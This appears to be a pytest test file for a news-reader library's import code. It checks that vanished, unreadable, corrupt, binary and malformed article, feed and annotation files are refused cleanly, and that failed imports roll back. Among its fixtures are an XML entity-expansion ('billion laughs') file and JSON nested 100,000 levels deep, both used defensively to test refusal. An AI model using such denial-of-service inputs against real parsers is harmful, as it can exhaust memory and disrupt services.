    assert {Path(f.path).relative_to(root).as_posix(): f.reason for f in report.failed} == {
        "x": loop,
        "y": loop,
        "z": loop,
    }
    assert (report.imported, report.duplicates) == (2, 0)
    titles = sorted(a.title for a in imported_articles(empty_library, report))
    assert titles == ["Parliament passes the budget", "Parliament passes the pension reform"]
    assert empty_library.article_count() == 2
    # Importing again finds the same two files and nothing new.
    again = finishes_within(60, lambda: empty_library.import_paths([root / "a"]))
    assert (again.imported, again.duplicates) == (0, 2)


# -- 9. files that vanish or become unreadable during an import (and 10: snapshots)


def deny_reading(monkeypatch: pytest.MonkeyPatch, denied: Path) -> None:
    """Opening ``denied`` raises PermissionError, at every way into the OS (chmod 000
    does not stop root, which the tests may run as)."""

    denied = denied.resolve()

    def is_denied(target: object) -> bool:
        if not isinstance(target, str | os.PathLike):
            return False  # a file descriptor
        try:
            return Path(target).resolve() == denied
        except (TypeError, OSError):
            return False

    def refuse() -> PermissionError:
        return PermissionError(errno.EACCES, os.strerror(errno.EACCES), str(denied))

    real_builtin_open, real_io_open, real_os_open = builtins.open, io.open, os.open
    real_path_open, real_read_bytes = Path.open, Path.read_bytes

    def builtin_open(file: Any, *args: Any, **kwargs: Any) -> Any:
        if is_denied(file):
            raise refuse()
        return real_builtin_open(file, *args, **kwargs)

    def io_open(file: Any, *args: Any, **kwargs: Any) -> Any:
        if is_denied(file):
            raise refuse()
        return real_io_open(file, *args, **kwargs)

    def os_open(file: Any, *args: Any, **kwargs: Any) -> int:
        if is_denied(file):
            raise refuse()
        return real_os_open(file, *args, **kwargs)

    def path_open(self: Path, *args: Any, **kwargs: Any) -> Any:
        if is_denied(self):
            raise refuse()
        return real_path_open(self, *args, **kwargs)

    def read_bytes(self: Path) -> bytes:
        if is_denied(self):
            raise refuse()
        return real_read_bytes(self)

    monkeypatch.setattr(builtins, "open", builtin_open)
    monkeypatch.setattr(io, "open", io_open)
    monkeypatch.setattr(os, "open", os_open)
    monkeypatch.setattr(Path, "open", path_open)
    monkeypatch.setattr(Path, "read_bytes", read_bytes)


@dataclass(frozen=True)
class Snapshot:
    """Everything the user can see of a library."""

    count: int
    articles: dict[int, StoredArticle]
    versions: dict[int, list[dict[str, object]]]
    highlights: dict[int, Highlight]
    orphans: tuple[int, ...]
    listing: tuple[ArticleSummary, ...]
    sources: tuple[tuple[str, int], ...]
    tags: tuple[tuple[str, int], ...]
    searches: dict[str, tuple[int, tuple[tuple[int, str, tuple[str, ...]], ...]]]

    def restricted(self, ids: set[int]) -> Snapshot:
        """The parts about the articles ``ids`` (what must not change when others are
        added)."""
        return Snapshot(
            count=0,
            articles={i: a for i, a in self.articles.items() if i in ids},
            versions={i: v for i, v in self.versions.items() if i in ids},
            highlights=self.highlights,
            orphans=self.orphans,
            listing=tuple(row for row in self.listing if row.id in ids),
            sources=(),
            tags=(),
            searches=self.searches,
        )


#: Queries that find only what the rich library held before (single terms and fields, so
#: that new articles cannot reorder them).
QUERIES = ("Vladivostok", "note:venue", "note:initiative", "tag:summit", "siberian", "colour:green")


def snapshot(library: Library) -> Snapshot:
    ids = [a.id for a in library.list_articles()]
    searches = {}
    for query in QUERIES:
        page = library.search(query, limit=50)
        searches[query] = (
            page.total,
            tuple((h.article_id, h.snippet, h.matched_in) for h in page.hits),
        )
    return Snapshot(
        count=library.article_count(),
        articles={a.id: a for a in library.get_articles(ids)},
        versions={i: library.versions(i) for i in ids},
        highlights={h.id: h for h in library.highlights()},
        orphans=tuple(h.id for h in library.orphans()),
        listing=tuple(library.list_articles()),
        sources=tuple(library.sources()),
        tags=tuple(library.tags()),
        searches=searches,
    )


FEED = """<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0"><channel><title>Energy Wire</title>
<item><title>Pipeline capacity doubled</title><link>https://wire.example.org/pipeline</link>
<description>The operator doubled the capacity of the Siberian pipeline.</description></item>
<item><title>Refinery reopens</title><link>https://wire.example.org/refinery</link>
<description>The refinery reopened after repairs, officials said.</description></item>
</channel></rss>
"""


@pytest.fixture
def rich(library: Library, tmp_path: Path) -> Library:
    """The seeds and three more articles, with highlights, notes, tags, colours, an
    orphan, read state and corrected metadata."""
    earlier = write_files(tmp_path / "earlier", {"feed.rss": FEED.encode()})
    report = library.import_paths([earlier])
    assert report.imported == 2
    by_title = {a.title: a.id for a in library.list_articles()}
    older = by_title["Xi and Putin vow to enhance ties between China and Russia"]
    newer = next(i for t, i in by_title.items() if t.startswith("Chinese President Xi Jinping"))
    pipeline, refinery = by_title["Pipeline capacity doubled"], by_title["Refinery reopens"]
    library.highlight_quote(older, "Vladivostok", color="green", note="venue", tags=["place"])
    library.highlight_quote(newer, "Belt and Road", note="initiative", tags=["trade"])
    library.highlight_quote(pipeline, "Siberian pipeline", color="blue", note="capacity")
    library.highlight_quote(refinery, "repairs", color="pink", note="orphan to be")
    library.delete_article(refinery, keep_highlights=True)
    library.set_tags(older, ["summit", "energy"])
    library.set_read(newer, True)
    library.update_metadata(pipeline, source="Energy Desk")
    assert len(library.orphans()) == 1
    return library


def bad_files() -> dict[str, bytes]:
    """One of each way a file fails (the names sort between the good files' names)."""
    return {
        "a_empty.txt": b"",
        "c_picture.html": png_bytes(),
        "d_laughs.xml": f'<?xml version="1.0"?><!DOCTYPE rss [{LAUGHS}]><rss/>'.encode(),
        "e_half_stored.rss": (
            b'<rss version="2.0"><channel><title>Half</title>'
            b"<item><title>Stored first</title><link>https://wire.example.org/pipeline</link>"
            b"<description>A new version of the pipeline story, with halfwayword.</description>"
            b"</item><item><title>Fails second</title>"
            b"<description>The store fails on this one.</description></item>"
            b"<item><title>Never reached</title><description>Third.</description></item>"
            b"</channel></rss>"
        ),
        "f_garbage.md": bytes(range(0x80, 0x100)) * 4 + bytes(range(1, 9)) * 8,
        "h_no_text.html": b"<html><body><script>x()</script><nav>Home</nav></body></html>",
        "i_bad_lines.jsonl": b'{"title": broken\n[1, 2]\n"a string"\n',
        "j_archive.txt": zip_bytes(),
    }


def fail_on_title(monkeypatch: pytest.MonkeyPatch, title: str) -> None:
    """The store fails (as a full disk would) when it gets to the article ``title``."""
    import sqlite3

    from reader.core.models import Article

    real = Store.add_article

    def add_article(self: Store, article: Article, **kwargs: Any) -> Any:
        if article.title == title:
            raise sqlite3.OperationalError("database or disk is full")
        return real(self, article, **kwargs)

    monkeypatch.setattr(Store, "add_article", add_article)


STORE_FAILED = "could not be stored in the library (OperationalError: database or disk is full)"


def test_vanished_and_unreadable_files_are_reported_and_the_rest_imported(
    rich: Library, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = write_files(
        tmp_path / "in",
        {
            "a_first.txt": STORY.encode(),
            "b_vanishes.txt": STORY.replace("budget", "vanishing bill").encode(),
            "c_unreadable.txt": STORY.replace("budget", "locked bill").encode(),
            "d_becomes_folder.txt": STORY.replace("budget", "folder bill").encode(),
            "e_last.txt": STORY.replace("budget", "last bill").encode(),
        },
    )
    before = snapshot(rich)

    def meddle(progress: ImportProgress) -> None:
        if progress.files_done == 1:  # the files were listed; the first one is in
            (folder / "b_vanishes.txt").unlink()
            deny_reading(monkeypatch, folder / "c_unreadable.txt")
            (folder / "d_becomes_folder.txt").unlink()
            (folder / "d_becomes_folder.txt").mkdir()
            (folder / "d_becomes_folder.txt" / "inside.txt").write_text(STORY, encoding="utf-8")

    report = rich.import_paths([folder], progress=meddle)

    assert failures(report, folder) == {
        "b_vanishes.txt": "no such file or folder",
        "c_unreadable.txt": f"cannot read: {os.strerror(errno.EACCES)}",
        "d_becomes_folder.txt": "this is a folder, not a file",
    }
    assert report.files == 5
    titles = sorted(a.title for a in imported_articles(rich, report))
    assert titles == ["Parliament passes the budget", "Parliament passes the last bill"]
    old_ids = set(before.articles)
    assert snapshot(rich).restricted(old_ids) == before.restricted(old_ids)
    assert rich.check().ok


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="named pipes are POSIX")
def test_a_file_replaced_by_a_named_pipe_is_refused_not_waited_for(
    empty_library: Library, tmp_path: Path
) -> None:
    folder = write_files(
        tmp_path / "in",
        {
            "a_first.txt": STORY.encode(),
            "b_pipe.txt": b"Title\n\nText.\n",
            "c_last.txt": b"Last\n\nOne.\n",
        },
    )
    pipe = folder / "b_pipe.txt"

    def meddle(progress: ImportProgress) -> None:
        if progress.files_done == 1:
            pipe.unlink()
            os.mkfifo(pipe)

    try:
        report = finishes_within(30, lambda: empty_library.import_paths([folder], progress=meddle))
    finally:
        # If the import is stuck opening the pipe (the test failed), a writer that comes
        # and goes lets it read an end of file and finish.
        with contextlib.suppress(OSError):  # nobody is reading it: nothing is stuck
            os.close(os.open(pipe, os.O_WRONLY | os.O_NONBLOCK))
    assert failures(report, folder) == {
        "b_pipe.txt": "not a regular file (a pipe, socket or device)"
    }
    assert report.imported == 2


# -- 10. nothing already in the library changes ------------------------------------------------


def test_a_partly_failed_import_adds_the_good_files_and_changes_nothing_else(
    rich: Library, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    fail_on_title(monkeypatch, "Fails second")
    good = {
        "b_good.txt": STORY.encode(),
        "g_good.md": b"# Harbour strike ends\n\nDock workers returned after a week-long strike.\n",
    }
    folder = write_files(tmp_path / "mixed", bad_files() | good)
    before = snapshot(rich)
    pipeline = next(a for a in before.articles.values() if a.title == "Pipeline capacity doubled")

    report = rich.import_paths([folder])

    reasons = failures(report, folder)
    assert set(reasons) == set(bad_files())
    assert reasons["a_empty.txt"] == "the file is empty"
    assert reasons["c_picture.html"] == PNG_REASON
    assert reasons["d_laughs.xml"] == f"the feed {REFUSED_ENTITIES}"
    assert reasons["e_half_stored.rss"] == STORE_FAILED
    assert reasons["f_garbage.md"] == "this is a binary file (it contains control bytes), not text"
    assert reasons["h_no_text.html"] == "no article text found"
    assert reasons["i_bad_lines.jsonl"].startswith("no line holds a readable article: line 1:")
    assert reasons["j_archive.txt"] == ZIP_REASON
    assert log_rows(rich, folder)["e_half_stored.rss"] == ("failed", STORE_FAILED)

    # The good files are in, and searchable.
    assert (report.imported, report.updated) == (2, 0)
    new = {a.title: a for a in imported_articles(rich, report)}
    assert set(new) == {"Parliament passes the budget", "Harbour strike ends"}
    assert rich.search("dock").total == 1
    # The half-stored feed left nothing: its first item (a new version of the pipeline
    # story) and its highlights' re-anchoring were rolled back with the rest.
    assert rich.search("halfwayword").total == 0
    assert not {"Stored first", "Never reached"} & {a.title for a in rich.list_articles()}
    assert rich.get_article(pipeline.id) == pipeline
    assert rich.versions(pipeline.id) == before.versions[pipeline.id]
    # Everything that was there is exactly as it was.
    old_ids = set(before.articles)
    after = snapshot(rich)
    assert after.count == before.count + 2
    assert after.restricted(old_ids) == before.restricted(old_ids)
    assert rich.check().ok


def test_a_wholly_failed_import_changes_nothing_at_all(
    rich: Library, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    fail_on_title(monkeypatch, "Fails second")
    folder = write_files(tmp_path / "bad", bad_files())
    before = snapshot(rich)
    log_before = rich.import_log()

    report = rich.import_paths([folder])

    assert set(failures(report, folder)) == set(bad_files())
    assert (report.imported, report.updated, report.duplicates) == (0, 0, 0)
    assert report.article_ids == []
    assert snapshot(rich) == before
    # Only the import log grew: one "failed" row per file.
    new_rows = rich.import_log()[len(log_before) :]
    assert rich.import_log()[: len(log_before)] == log_before
    assert sorted((Path(str(r["path"])).name, r["outcome"]) for r in new_rows) == sorted(
        (name, "failed") for name in bad_files()
    )
    assert rich.check().ok


# -- 11. queries: tests/core/search/test_bad_queries.py


# -- 12. annotation files ------------------------------------------------------------------------


@pytest.fixture
def annotated(library: Library) -> Iterator[tuple[Library, str]]:
    """The seed library with highlights, and their W3C JSON export."""
    by_title = {a.title: a.id for a in library.list_articles()}
    older = by_title["Xi and Putin vow to enhance ties between China and Russia"]
    library.highlight_quote(older, "Vladivostok", color="green", note="venue", tags=["place"])
    library.highlight_quote(older, "President Xi", occurrence=2, color="purple")
    yield library, library.export_highlights("json")


def highlights_state(library: Library) -> tuple[list[Highlight], list[Highlight]]:
    return library.highlights(), library.orphans()


def annotation_cases(export: str) -> dict[str, tuple[bytes, str]]:
    """{file name: (content, the reason the import must give)}."""
    document = json.loads(export)
    item = document["first"]["items"][0]

    def collection(*items: object) -> bytes:
        return json.dumps(
            {"type": "AnnotationCollection", "first": {"items": list(items)}}
        ).encode()

    def changed(target: object) -> dict[str, object]:
        return {**item, "id": "urn:uuid:changed", "target": target}

    encoded = export.encode()
    cut = encoded[: len(encoded) // 2]
    note_at = encoded.index(b'"venue"') + 1
    return {
        "empty.json": (b"", "the file is empty"),
        "blank.json": (b" \n\t\n", "the file is empty"),
        "picture.json": (
            png_bytes(),
            "this is a binary file (PNG image), not W3C Web Annotation JSON",
        ),
        "archive.json": (
            zip_bytes(),
            "this is a binary file (ZIP archive or Office/EPUB document), "
            "not W3C Web Annotation JSON",
        ),
        "truncated.json": (cut, "not JSON: "),
        "not-utf8.json": (
            encoded[:note_at] + b"\xff\xfe" + encoded[note_at:],
            f"the text is not UTF-8 (byte {note_at + 1} cannot be read), so it is not W3C "
            "Web Annotation JSON",
        ),
        "list-of-numbers.json": (b"[1, 2, 3]", "item 1 is not an Annotation"),
        "other-json.json": (
            b'{"title": "an article, not annotations"}',
            "not a W3C Web Annotation document",
        ),
        "page-as-string.json": (
            b'{"type": "AnnotationCollection", "first": "page 1"}',
            "not a W3C Web Annotation document (an unexpected value: ",
        ),
        "selector-number.json": (
            collection(changed({"source": "urn:x", "selector": 5})),
            "not a W3C Web Annotation document (an unexpected value: ",
        ),
        "no-quote.json": (
            collection(
                changed({"source": "urn:x", "selector": [{"type": "TextPositionSelector"}]})
            ),
            "item 1 has no TextQuoteSelector",
        ),
        "infinite-position.json": (
            collection(
                changed(
                    {
                        "source": "urn:x",
                        "selector": [
                            {"type": "TextQuoteSelector", "exact": "Xi"},
                            {"type": "TextPositionSelector", "start": float("inf"), "end": 1},
                        ],
                    }
                )
            ),
            "not a W3C Web Annotation document (an unexpected value: ",
        ),
        "second-item-bad.json": (
            collection({**item, "id": "urn:uuid:fine-first"}, {"type": "Annotation"}),
            "item 2 has no target",
        ),
        "nested.json": (
            b"[" * 100_000 + b"]" * 100_000,
            "not JSON that can be read: nested too deeply",
        ),
    }


def test_bad_annotation_files_are_refused_by_name_and_change_nothing(
    annotated: tuple[Library, str], tmp_path: Path
) -> None:
    library, export = annotated
    before = highlights_state(library)
    assert len(before[0]) == 2
    for name, (content, reason) in annotation_cases(export).items():
        path = tmp_path / name
        path.write_bytes(content)
        with pytest.raises(LibraryError) as caught:
            library.import_annotations(path)
        message = str(caught.value)
        assert message.startswith(f"{path}: {reason}"), (name, message)
        assert "Traceback" not in message
        assert highlights_state(library) == before, name
    # A good file still imports afterwards (nothing was left half done).
    path = tmp_path / "good.json"
    path.write_text(export, encoding="utf-8")
    assert library.import_annotations(path).duplicates == 2


def test_odd_values_in_an_annotation_file_never_break_the_library(
    annotated: tuple[Library, str], tmp_path: Path
) -> None:
    """Values of the wrong type that parse_w3c passes through used to be stored as they
    were: a date that is no date made every later read of the highlights fail; a list,
    an object or a huge number stopped the import with a database error."""
    library, export = annotated
    exported = json.loads(export)["first"]["items"][0]
    elsewhere = "0" * 64  # an article this library does not hold: kept as orphans
    item = {
        **exported,
        "target": {**exported["target"], "source": f"urn:sha256:{elsewhere}"},
        "cr:article": {"title": "Elsewhere", "sha256": elsewhere},
    }
    odd = [
        {**item, "id": "urn:x:1", "created": "yesterday", "modified": 5},
        {
            **item,
            "id": "urn:x:2",
            "cr:article": {"outlet": {"a": 1}, "url": ["x"], "date": 7, "sha256": [1]},
        },
        {
            **item,
            "id": "urn:x:3",
            "target": {
                "source": "urn:sha256:0",
                "selector": [
                    {"type": "TextQuoteSelector", "exact": "Quote \ud800 with a surrogate"},
                    {"type": "TextPositionSelector", "start": 10**20, "end": 10**21},
                ],
            },
            "body": [
                {"purpose": "tagging", "value": None},
                {"purpose": "commenting", "value": "n\udc00"},
            ],
        },
        {**item, "id": 12345, "modified": [2020]},
    ]
    path = tmp_path / "odd.json"
    path.write_text(json.dumps({"type": "AnnotationPage", "items": odd}), encoding="utf-8")
    before = library.highlights()

    report = library.import_annotations(path)

    assert (report.imported, report.duplicates, len(report.orphans)) == (0, 0, len(odd))
    after = library.highlights()  # readable: every date is a date
    old = {h.id for h in before}
    assert [h for h in after if h.id in old] == before
    added = [h for h in after if h.id not in old]
    assert len(added) == len(odd)
    assert all(h.is_orphan for h in added)
    surrogate = next(h for h in added if h.exact.startswith("Quote"))
    assert (surrogate.exact, surrogate.note) == ("Quote \ufffd with a surrogate", "n\ufffd")
    assert (surrogate.start, surrogate.end) == (0, 0)
    for fmt in ("json", "markdown", "csv", "html"):
        assert library.export_highlights(fmt)
    assert library.check().ok
